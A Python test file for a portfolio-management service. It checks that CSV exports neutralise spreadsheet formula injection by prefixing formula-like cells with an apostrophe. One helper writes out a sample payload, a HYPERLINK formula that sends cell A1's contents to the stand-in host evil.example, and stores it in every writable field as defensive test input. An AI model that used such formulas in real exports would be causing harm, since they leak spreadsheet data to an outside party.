"""Every CSV export opens in a spreadsheet as data: text that starts the way a formula does,
stored through the API, comes out with a ' in front, in every export."""

from __future__ import annotations

import csv
import io
import re
import time

import psycopg
import pytest

from projections.bi import V1_COLUMNS
from service.database import Database
from service.exports import exportable
from tests.api.conftest import Client, bearer
from tests.api.graphql import STRATEGIC, Caller, review_gate

pytestmark = pytest.mark.database

# What OWASP's "CSV Injection" lists: a spreadsheet runs a cell that starts with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
PERIOD = "2031-Q1"
AUDITOR = bearer("audrey", "auditor")


def hostile(start: str, tag: str) -> str:
    """Text that a spreadsheet would run, starting with `start`, made unique by `tag`."""
    return f'{start}HYPERLINK("http://evil.example/?{tag}="&A1,"open me")'


def could_run_as_formula(cell: str) -> bool:
    """A cell a spreadsheet would take for a formula: one that starts like one and is not a
    plain number (-1.5 opens as the number it is)."""
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def store_everywhere(api: Client, text: str) -> int:
    """`text` in every field of every export that a client can write to; the last position."""
    steward = Caller(api, bearer(text, "steward", "sponsor"))
    team = steward.ok("teamRegister", name=text, orgUnit=text)["team"]["id"]
    steward.ok("teamSetCapacity", id=team, period=PERIOD, fte="5", reason=text)
    objective = steward.ok(
        "objectiveDefine",
        title=text,
        level="ANNUAL",
        owner=text,
        kpis=[{"name": text, "target": "30", "unit": text}],
        due="2031-12-31",
    )["objective"]["id"]
    proposed = steward.ok("initiativePropose", title=text, problem=text, orgUnit=text)
    initiative = proposed["initiative"]["id"]
    steward.ok("initiativeClassify", id=initiative, criteria=STRATEGIC, reason=text)
    steward.ok("initiativeAssignSponsor", id=initiative, sponsor=text)
    steward.ok("initiativeAlign", id=initiative, objectiveId=objective, strength="STRONG")
    steward.ok(
        "initiativeResource",
        id=initiative,
        teamId=team,
        period=PERIOD,
        fte="2",
        budget="1000",
        reason=text,
    )
    # The chair of a gate may be neither its proposer nor its sponsor: here, a colleague's.
    neutral = Caller(api, bearer("stella", "steward", "sponsor"))
    other = neutral.ok("initiativePropose", title="t", problem="p", orgUnit="u")
    other_id = other["initiative"]["id"]
    neutral.ok("initiativeClassify", id=other_id, criteria=STRATEGIC, reason="r")
    neutral.ok("initiativeAssignSponsor", id=other_id, sponsor="sam")
    decided = review_gate(api, other_id, "GO", [text, "gus"], text)
    assert decided["userErrors"] == []
    item = steward.ok("improvementItemRaise", title=text, problem=text, area=text)
    resourced = steward.ok(
        "improvementItemResource",
        id=item["improvementItem"]["id"],
        owner=text,
        due="2031-03-31",
        reason=text,
    )
    return int(resourced["position"])


# Where each stored text shows in the exports: every column a client can write text to.
WRITTEN = {
    "portfolio": ("title", "org_unit", "owner", "sponsor"),
    "path_balance_items": ("org_unit",),
    "path_balance_allocations": ("org_unit",),
    "path_balance": ("org_unit",),
    "capacity_teams": ("name", "org_unit"),
    "capacity": ("team_name", "org_unit"),
    "pipeline_stages": ("title", "org_unit"),
    "pipeline_gates": ("decided_by",),
    "kaizen_flow": ("title", "area", "owner"),
    "reviews_due": ("title", "org_unit"),
    "alignment_objectives": ("title", "owner"),
    "alignment_work": ("title", "org_unit"),
    "decision_log": ("actor_id", "reason", "subject_title"),
    "decision_log_subjects": ("title",),
    "governance_work": ("title", "org_unit", "sponsor"),
}


def wait_for_the_views(database: Database, position: int, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    with psycopg.connect(database.conninfo, autocommit=True) as conn:
        while True:
            rows = conn.execute("SELECT projection, position FROM reporting.tracking").fetchall()
            if rows and all(at >= position for _, at in rows):
                return
            assert time.monotonic() < deadline, f"the views did not reach {position}: {rows}"
            time.sleep(0.05)


def export(api: Client, name: str) -> list[dict[str, str]]:
    response = api.get(f"/exports/{name}.csv", headers=AUDITOR)
    assert response.status_code == 200, response.text
    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
    assert tuple(header) == exportable()[name].columns
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_no_cell_of_any_export_could_run_as_a_formula(api: Client, database: Database) -> None:
    tag = str(time.monotonic_ns())
    texts = [hostile(start, tag) for start in FORMULA_STARTS]
    for text in texts:
        last = store_everywhere(api, text)
    wait_for_the_views(database, last)

    names = api.get("/exports/none.csv", headers=AUDITOR).json()["exports"]
    exports = {name.removesuffix(".csv"): export(api, name.removesuffix(".csv")) for name in names}

    assert set(exports) == set(V1_COLUMNS)
    running = [
        (name, column, cell)
        for name, rows in exports.items()
        for row in rows
        for column, cell in row.items()
        if could_run_as_formula(cell)
    ]
    assert running == []
    for name, columns in WRITTEN.items():
        for column in columns:
            shown = {row[column] for row in exports[name]}
            for text in texts:  # titles, names and reasons are stored without leading blanks
                assert "'" + text in shown or text.lstrip() in shown, (name, column, text[:1])
    actor_ids = {row["actor_id"] for row in exports["decision_log"]}
    assert {"'" + text for text in texts} <= actor_ids  # a tab and a CR reach the exports too


def test_text_that_merely_contains_a_formula_character_is_left_as_it_is(
    api: Client, database: Database
) -> None:
    text = f"Cut scrap -30% on line 3 = +1 shift @ {time.monotonic_ns()}"
    wait_for_the_views(database, store_everywhere(api, text))

    titles = {row["title"] for row in export(api, "portfolio")}

    assert text in titles
